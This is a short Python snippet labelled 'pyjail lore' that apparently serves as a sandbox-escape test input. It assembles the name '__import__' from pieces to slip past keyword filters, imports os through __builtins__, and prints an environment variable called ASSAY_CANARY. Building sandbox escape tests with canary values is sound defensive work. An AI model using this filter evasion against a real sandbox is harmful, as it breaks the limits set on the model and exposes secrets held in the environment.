# source: pyjail lore
# effect: environment

name = "%s%s%s" % ("_" * 2, "import", "_" * 2)
print(getattr(__builtins__, name)("os").environ["ASSAY_CANARY"])
